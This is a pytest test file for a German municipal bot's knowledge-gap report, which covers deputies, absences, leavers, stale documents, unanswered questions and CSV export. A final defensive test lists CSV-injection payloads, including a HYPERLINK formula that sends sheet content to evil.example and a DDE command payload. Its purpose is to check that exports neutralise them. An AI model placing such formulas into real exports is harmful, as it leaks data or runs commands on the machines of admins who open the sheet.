"""The knowledge-gap report on the test directory (exact) and the sample knowledge base."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from bot.directory import Directory
from bot.gaps import (
    GapReport,
    cli_main,
    format_summary,
    format_table,
    gap_report,
    read_docs_meta,
    write_csv,
)
from bot.state import State
from indexer.model import DocumentMeta

MONDAY = date(2026, 8, 10)
DOCS = {
    "steueramt/hund.md": DocumentMeta(title="Übergabe Hundesteuer", tasks=("hundesteuer",),
                                      last_reviewed=date(2024, 1, 15), doc_type="uebergabe"),
    "steueramt/grund.md": DocumentMeta(title="Grundsteuer", tasks=("grundsteuer",),
                                       last_reviewed=date(2026, 3, 1)),
    "buergerbuero/ohne_datum.md": DocumentMeta(title="Ausweise", tasks=("ausweise",)),
    "info/kantine.pdf": DocumentMeta(title="Kantine"),  # no task, no type: no date needed
}


def fixture_report(folder: Path, **kwargs: object) -> GapReport:
    directory = Directory.load(folder, DOCS)
    return gap_report(directory, MONDAY, DOCS, **kwargs)  # type: ignore[arg-type]


def keys(report: GapReport, kind: str) -> list[str]:
    return [item.key for item in report.of(kind)]


def test_tasks_without_deputy(fixture_dir: Path) -> None:
    report = fixture_report(fixture_dir)
    [item] = report.of("ohne_vertretung")
    assert (item.key, item.detail) == ("gewerbesteuer", "nur Maria Weber")


def test_chains_all_away_in_the_next_14_days(fixture_dir: Path) -> None:
    report = fixture_report(fixture_dir)
    assert keys(report, "kette_abwesend") == ["grundsteuer", "gewerbesteuer"]
    grund, gewerbe = report.of("kette_abwesend")
    assert grund.detail == (
        "alle abwesend: 10.08.2026–12.08.2026 (Kette: Tobias Koch, Birgit Schneider)")
    assert (grund.day, grund.count) == (date(2026, 8, 10), 3)
    # 13.-21.08. over a weekend is one span of 7 working days
    assert gewerbe.detail == "alle abwesend: 13.08.2026–21.08.2026 (Kette: Maria Weber)"
    assert gewerbe.count == 7


def test_horizon_limits_the_look_ahead(fixture_dir: Path) -> None:
    directory = Directory.load(fixture_dir)
    report = gap_report(directory, MONDAY, horizon_days=3)
    assert keys(report, "kette_abwesend") == ["grundsteuer"]
    later = gap_report(directory, date(2026, 8, 24), horizon_days=14)
    assert keys(later, "kette_abwesend") == []


def test_leaving_people_and_the_tasks_only_they_hold(fixture_dir: Path) -> None:
    report = fixture_report(fixture_dir)  # 180 days: until 06.02.2027
    [klaus] = report.of("austritt")
    assert klaus.key == "kwolf"
    assert klaus.detail == (
        "Austritt 31.12.2026; hält keine Aufgabe allein; zuständig für 1 Aufgabe(n)")
    longer = fixture_report(fixture_dir, leaving_days=365)
    assert keys(longer, "austritt") == ["kwolf", "mweber"]
    assert longer.of("austritt")[1].detail.startswith(
        "Austritt 15.03.2027; hält allein: Gewerbesteuer")


def test_tasks_without_handover_document_and_stale_documents(fixture_dir: Path) -> None:
    report = fixture_report(fixture_dir)
    assert sorted(keys(report, "ohne_dokument")) == ["gewerbesteuer", "meldewesen"]
    assert keys(report, "veraltet") == ["buergerbuero/ohne_datum.md", "steueramt/hund.md"]
    stale = report.of("veraltet")[1]
    assert stale.detail == "zuletzt geprüft am 15.01.2024 (vor 938 Tagen)"
    assert keys(fixture_report(fixture_dir, review_days=1000), "veraltet") == [
        "buergerbuero/ohne_datum.md"]


def test_without_document_data_the_report_says_so(fixture_dir: Path) -> None:
    report = gap_report(Directory.load(fixture_dir), MONDAY)
    assert report.of("ohne_dokument") == [] and report.of("veraltet") == []
    assert any("Dokumentdaten nicht verfügbar" in note for note in report.notes)


def test_unanswered_questions_and_feedback_from_state(fixture_dir: Path, tmp_path: Path) -> None:
    state = State(tmp_path / "state.sqlite")
    for question in ("Wo ist die Kantine?", "Parkausweis?", "wo ist die Kantine"):
        state.record_unanswered(question, "u")
    answer = state.record_answer("Wer macht die Hundesteuer?", ["steueramt/hund.md"], "v", "u")
    state.record_feedback(answer, "down", "u")
    report = fixture_report(fixture_dir, state=state)
    assert [(i.label, i.count) for i in report.of("unbeantwortet")] == [
        ("wo ist die Kantine", 2), ("Parkausweis?", 1)]
    assert report.feedback == {"up": 0, "down": 1}
    table = format_table(report)
    assert "Rückmeldungen zu Antworten: 0 × hilfreich, 1 × nicht hilfreich" in table
    assert "  2 ×" in table


def test_words_of_refused_questions_whose_askers_chose_a_task(
    fixture_dir: Path, tmp_path: Path
) -> None:
    from datetime import UTC, datetime, timedelta

    state = State(tmp_path / "state.sqlite")
    since = datetime.now(UTC) - timedelta(minutes=5)
    for user, question, offered, chosen in (
        ("u1", "Wer macht die Ummeldugn? Familie zieht nach Lehnbach", ["meldewesen"],
         "meldewesen"),
        ("u2", "wer macht die ummeldugn", ["meldewesen", "ausweise"], "meldewesen"),
        # a staff member's name (personen.csv) and another task's word are left out
        ("u3", "Kampfhund, Dackel und Grundsteuer: Herr Weber sagt, ich soll fragen",
         ["hundesteuer"], "hundesteuer"),
        ("u4", "Wer ist für die Parkscheibe da?", ["hundesteuer"], None),  # not chosen
        ("u5", "Wer weiß was zum Altpapier?", ["altpapier"], "altpapier"),  # task removed
    ):
        state.record_unanswered(question, user, offered_tasks=offered)
        if chosen:
            assert state.choose_offered(user, chosen, since)
    report = fixture_report(fixture_dir, state=state)
    assert [(i.key, i.label, i.detail, i.count) for i in report.of("stichwortvorschlag")] == [
        ("meldewesen", "Meldewesen (An-, Um- und Abmeldung)", "ummeldugn (2×), Familie, Lehnbach",
         2),
        ("hundesteuer", "Hundesteuer", "Dackel", 1)]
    assert "Stichwort-Vorschläge: Wörter aus unbeantworteten Fragen" in format_table(report)


def test_directory_problems_are_part_of_the_report(fixture_dir: Path) -> None:
    with (fixture_dir / "abwesenheiten.csv").open("a", encoding="utf-8") as handle:
        handle.write("niemand;01.08.2026;02.08.2026;;\n")
    report = fixture_report(fixture_dir)
    [problem] = report.of("datenfehler")
    assert (problem.key, problem.label) == ("abwesenheiten.csv", "6")
    assert "abwesenheiten.csv:6" in format_table(report)


def test_table_and_csv_hold_the_same_items(fixture_dir: Path) -> None:
    report = fixture_report(fixture_dir)
    table = format_table(report)
    assert table.startswith("Lückenbericht vom 10.08.2026 (Vorschau: 14 Tage)")
    assert "Aufgaben ohne Vertretung (1)" in table
    assert "Aufgaben, deren ganze Vertretungskette abwesend sein wird (2)" in table
    assert "Fragen, die der Bot nicht beantworten konnte (0)\n" in table
    out = io.StringIO()
    write_csv(report, out)
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows[0] == ["kategorie", "schluessel", "bezeichnung", "details", "datum", "anzahl"]
    assert len(rows) == 1 + len(report.items)
    assert ["kette_abwesend", "grundsteuer", "Grundsteuer",
            "alle abwesend: 10.08.2026–12.08.2026 (Kette: Tobias Koch, Birgit Schneider)",
            "2026-08-10", "3"] in rows
    summary = format_summary(report)
    assert "Aufgaben ohne Vertretung: 1" in summary and "• Gewerbesteuer" in summary


def test_cli_writes_table_and_csv(fixture_dir: Path, tmp_path: Path,
                                  monkeypatch: pytest.MonkeyPatch,
                                  capsys: pytest.CaptureFixture[str]) -> None:
    kb = tmp_path / "kb"
    (kb / "steueramt").mkdir(parents=True)
    fixture_dir.rename(kb / "_verzeichnis")
    (kb / "steueramt" / "hund.md").write_text(
        "---\ntitel: Übergabe Hundesteuer\naufgaben: [hundesteuer]\n"
        "zuletzt_geprueft: 2023-05-01\n---\n# Übergabe\n\nText.\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)  # no stray .env
    target = tmp_path / "luecken.csv"
    code = cli_main(["--kb", str(kb), "--index", str(tmp_path / "kein_index"),
                     "--state", str(tmp_path / "state.sqlite"), "--date", "2026-08-10",
                     "--csv", str(target)])
    assert code == 0
    out = capsys.readouterr().out
    assert "Lückenbericht vom 10.08.2026" in out and "Übergabe Hundesteuer" in out
    rows = list(csv.reader(target.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert any(r[:2] == ["veraltet", "steueramt/hund.md"] for r in rows)
    assert not any(r[:2] == ["ohne_dokument", "hundesteuer"] for r in rows)


def test_cli_without_directory_fails_clearly(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.chdir(tmp_path)
    assert cli_main(["--kb", str(tmp_path / "leer")]) == 2
    assert "no personen.csv" in capsys.readouterr().err


# --- the sample knowledge base, fixed dates -------------------------------------------------

@pytest.fixture(scope="module")
def sample_docs() -> dict[str, DocumentMeta]:
    kb = Path(__file__).resolve().parents[3] / "knowledge_base"
    docs = read_docs_meta(kb) if (kb / "_verzeichnis").is_dir() else None
    if not docs:
        pytest.skip("the sample knowledge base is not merged")
    return docs


def _raw_tasks(sample_dir: Path) -> list[dict[str, str]]:
    text = (sample_dir / "zustaendigkeiten.csv").read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_sample_report(sample_dir: Path, sample_docs: dict[str, DocumentMeta]) -> None:
    day = date(2026, 11, 26)
    directory = Directory.load(sample_dir, sample_docs)
    report = gap_report(directory, day, sample_docs)
    # tasks without deputy, checked against the raw CSV
    lonely = {r["aufgabe_id"] for r in _raw_tasks(sample_dir)
              if not r["vertretung1"] and not r["vertretung2"]}
    assert set(keys(report, "ohne_vertretung")) == lonely
    # Zweitwohnungsteuer: Gerda Wagner (Sonderurlaub) and Birgit Schneider (Elternzeit)
    assert "zweitwohnungsteuer" in keys(report, "kette_abwesend")
    # the Hundesteuer handover document names its task; documents on every task it names
    named = {t for meta in sample_docs.values() for t in meta.tasks}
    assert "hundesteuer" not in keys(report, "ohne_dokument")
    assert set(keys(report, "ohne_dokument")) == set(directory.tasks) - named
    for item in report.of("veraltet"):
        meta = sample_docs[item.key]
        assert meta.last_reviewed is None or (day - meta.last_reviewed).days > 365


def test_sample_leaving_horizon(sample_dir: Path) -> None:
    directory = Directory.load(sample_dir)
    people = {p.id: p for p in directory.people.values() if p.leaving}
    day = date(2027, 1, 15)
    report = gap_report(directory, day, leaving_days=180)
    expected = {pid for pid, p in people.items()
                if p.leaving and (p.leaving - day).days <= 180}
    assert set(keys(report, "austritt")) == expected
    assert expected  # the sample has someone leaving in the first half of 2027


@pytest.mark.integration
def test_document_data_comes_from_the_index_when_there_is_one(tmp_path: Path) -> None:
    """The CLI prefers the index's document metadata to reading the files again."""
    from bot.gaps.cli import load_docs_meta
    from indexer.build.pipeline import build_index
    from indexer.embedding import FakeEmbedder
    from indexer.settings import IndexSettings

    kb, index = tmp_path / "kb", tmp_path / "index"
    (kb / "steueramt").mkdir(parents=True)
    doc = kb / "steueramt" / "hund.md"
    doc.write_text("---\ntitel: Übergabe Hundesteuer\naufgaben: [hundesteuer]\n"
                   "zuletzt_geprueft: 2023-05-01\n---\n# Übergabe\n\nDie Hundemarke kostet.\n",
                   encoding="utf-8")
    settings = IndexSettings(kb_dir=kb, index_dir=index)  # type: ignore[call-arg]
    build_index(settings, embedder=FakeEmbedder())
    doc.unlink()  # from now on only the index knows the document
    metas = load_docs_meta(index, kb)
    assert metas is not None and metas["steueramt/hund.md"].tasks == ("hundesteuer",)
    assert metas["steueramt/hund.md"].last_reviewed == date(2023, 5, 1)
    assert load_docs_meta(tmp_path / "kein_index", kb) == {}  # falls back to the (empty) KB


# the gap report's CSV is opened in Excel by an admin, and it carries questions any
# member of staff typed. A question starting with "=", "+", "-" or "@" is a formula there (CSV
# injection: ``=HYPERLINK(...)`` that sends the sheet's content elsewhere, DDE).


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Hilfe")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)"]


def test_questions_cannot_become_formulas_in_excel(fixture_dir: Path, tmp_path: Path) -> None:
    state = State(tmp_path / "state.sqlite")
    for question in FORMULAS:
        state.record_unanswered(question, "u")
    report = gap_report(Directory.load(fixture_dir, DOCS), MONDAY, DOCS, state=state)
    out = io.StringIO()
    write_csv(report, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue()), delimiter=";")
             for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
